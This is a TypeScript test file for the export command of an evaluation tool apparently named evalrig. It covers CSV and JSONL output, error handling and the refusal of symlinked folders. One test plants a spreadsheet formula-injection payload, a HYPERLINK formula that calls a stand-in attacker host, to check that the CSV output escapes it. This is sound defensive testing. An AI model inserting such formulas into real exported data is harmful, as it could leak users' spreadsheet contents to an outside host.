import { expect } from 'chai';
import { mkdtemp, readFile, rm, symlink, writeFile, rename, mkdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { writeReport, type BenchmarkFile } from '../../../src/report/index.js';
import { GOOD_RUN, MIXED, writeCampaign } from '../report/fixture.js';
import {
  evalrigExport,
  expectRunsMatchBenchmark,
  jsonlRows,
  pythonCsvRows,
} from '../../support/export-tables.js';

describe('export: a stored campaign as one table, read back and held against benchmark.json', function () {
  let dir: string;
  let bench: BenchmarkFile;

  before(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'evalrig-export-'));
    await writeCampaign(dir, MIXED);
    await writeReport(dir, { now: new Date('2025-03-02T00:00:00Z') });
    bench = JSON.parse(await readFile(path.join(dir, 'benchmark.json'), 'utf8')) as BenchmarkFile;
  });

  after(() => rm(dir, { recursive: true, force: true }));

  it("gives one CSV row per run that Python's csv module reads, its figures benchmark.json's", async () => {
    const said = await evalrigExport([dir, '--format', 'csv']);
    expect(said.exitCode, said.stderr).to.equal(0);
    expect(said.stdout.split('\r\n')[0]!.split(',').slice(0, 4)).to.deep.equal([
      'eval',
      'condition',
      'run',
      'status',
    ]);
    const rows = await pythonCsvRows(said.stdout);
    expect(rows).to.have.length(bench.runs.total);
    expectRunsMatchBenchmark(rows, bench);
    expect(rows.map((r) => r['check:tests'])).to.include.members([true, false]);
  });

  it('gives the same rows as JSON lines, into a file with --out', async () => {
    const file = path.join(dir, 'runs.jsonl');
    const said = await evalrigExport([dir, '--format', 'jsonl', '--runs', '--out', file]);
    expect(said.exitCode, said.stderr).to.equal(0);
    expect(said.stdout).to.equal('');
    expect(said.stderr).to.contain(`${bench.runs.total} runs rows in ${file}`);
    const rows = jsonlRows(await readFile(file, 'utf8'));
    expectRunsMatchBenchmark(rows, bench);
    const csv = await pythonCsvRows((await evalrigExport([dir, '--format', 'csv'])).stdout);
    expect(rows).to.deep.equal(csv);
  });

  it('gives one row per stop, its turn and pull request as the stop file says', async () => {
    const said = await evalrigExport([dir, '--format', 'jsonl', '--stops']);
    expect(said.exitCode, said.stderr).to.equal(0);
    const rows = jsonlRows(said.stdout);
    const turns = bench.conditions.reduce(
      (n, c) => n + (c.measures.turns.mean ?? 0) * c.measures.turns.n,
      0,
    );
    expect(rows).to.have.length(turns);
    expect(new Set(rows.map((r) => r.turn))).to.deep.equal(new Set([1, 2]));
    expect(rows.every((r) => r.pr_number === 1 && r.pr_title === 'Plan: x')).to.equal(true);
  });

  it("guards the agent's words against formula injection in CSV, and keeps them whole in JSON lines", async () => {
    const hostile = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")';
    const planted = await mkdtemp(path.join(os.tmpdir(), 'evalrig-export-hostile-'));
    try {
      await writeCampaign(planted, {
        evals: ['e'],
        conditions: ['default'],
        baseline: 'default',
        runs: 1,
        plan: () => ({ ...GOOD_RUN, message: hostile }),
      });
      const csv = await pythonCsvRows(
        (await evalrigExport([planted, '--format', 'csv', '--stops'])).stdout,
      );
      expect(csv.map((r) => r.final_message)).to.deep.equal([`'${hostile}`, `'${hostile}`]);
      const jsonl = jsonlRows(
        (await evalrigExport([planted, '--format', 'jsonl', '--stops'])).stdout,
      );
      expect(jsonl.map((r) => r.final_message)).to.deep.equal([hostile, hostile]);
    } finally {
      await rm(planted, { recursive: true, force: true });
    }
  });

  it('refuses a folder that is no campaign, and flags it cannot take, each saying why', async () => {
    const empty = await mkdtemp(path.join(os.tmpdir(), 'evalrig-export-none-'));
    try {
      const none = await evalrigExport([empty, '--format', 'csv']);
      expect(none.exitCode).to.equal(2);
      expect(none.stderr).to.match(/conditions\.json is missing: .* is not a campaign folder/u);
      expect(none.stderr).to.not.match(/\n\s+at /u);
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
    const two = await evalrigExport([dir, '--format', 'csv', '--runs', '--calls']);
    expect(two.exitCode).to.equal(2);
    expect(two.stderr).to.contain('give one of --runs, --calls, --stops');
    const xml = await evalrigExport([dir, '--format', 'xml']);
    expect(xml.exitCode).to.equal(2);
    expect(xml.stderr).to.contain('--format must be csv or jsonl, got "xml"');
  });

  it('leaves out a broken run, saying so, and refuses runs/ reached through a link', async () => {
    const copy = await mkdtemp(path.join(os.tmpdir(), 'evalrig-export-planted-'));
    try {
      await writeCampaign(copy, MIXED);
      const victim = path.join(copy, 'runs', 'fix-bug', 'with_skill', 'run-02', 'run.json');
      await writeFile(victim, '{ not json');
      const broken = await evalrigExport([copy, '--format', 'jsonl']);
      expect(broken.exitCode, broken.stderr).to.equal(0);
      expect(jsonlRows(broken.stdout)).to.have.length(bench.runs.total - 1);
      expect(broken.stderr).to.contain('run-02 left out, its files are broken');
      // The runs planted elsewhere, runs/ a link to them: nothing is read through it.
      const elsewhere = path.join(copy, 'elsewhere');
      await mkdir(elsewhere);
      await rename(path.join(copy, 'runs'), path.join(elsewhere, 'runs'));
      await symlink(path.join(elsewhere, 'runs'), path.join(copy, 'runs'));
      const linked = await evalrigExport([copy, '--format', 'csv']);
      expect(linked.exitCode).to.equal(2);
      expect(linked.stderr).to.contain('is a link: not evalrig');
      expect(linked.stdout).to.equal('');
    } finally {
      await rm(copy, { recursive: true, force: true });
    }
  });
});
